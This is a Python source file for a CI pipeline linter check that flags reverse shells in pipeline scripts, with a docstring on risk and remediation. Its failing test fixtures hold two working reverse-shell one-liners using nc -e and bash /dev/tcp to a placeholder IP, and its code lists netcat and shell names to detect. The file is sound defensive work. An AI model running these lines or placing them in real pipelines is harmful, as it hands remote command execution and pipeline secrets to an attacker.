"""A command opens a shell to somewhere else.

Why: whoever listens there types into the pipeline, with its credentials; no honest job needs it.
Fix: remove it, find out who wrote it, and replace every secret that the pipeline can read.
References: https://attack.mitre.org/techniques/T1059/004/
"""

from collections.abc import Iterator

from pratique.checks.check import Fault, Lines, Texts, check
from pratique.checks.pipeline._runs import Run
from pratique.documents.shell import Command

FAILS: Lines = {
    "a:\n  script:\n    - nc -e /bin/sh 10.0.0.1 4444\n": 3,
    "a:\n  script:\n    - bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n": 3,
}
PASSES: Texts = ("a:\n  script:\n    - nc -z db 5432\n    - bash -c 'echo > /dev/tcp/db/5432'\n",)
_NETCATS = frozenset({"nc", "ncat", "netcat"})
_SHELLS = frozenset({"sh", "bash", "zsh", "dash"})


@check("critical", standards=("CKV_GHA_4",))
def reverse_shell(runs: tuple[Run, ...]) -> Iterator[Fault]:
    for run in runs:
        for command in run.commands:
            after = run.written[command.end : command.end + 200].partition("\n")[0]
            if _is_netcat(command) or (
                command.name in _SHELLS and command.has("-i") and "/dev/tcp/" in " ".join((*command.written, after))
            ):
                yield run.fault(f"{command.name} opens a shell to somewhere else.", command)


def _is_netcat(command: Command) -> bool:
    return command.name in _NETCATS and command.has("-e", "-c", "--exec", "--sh-exec")
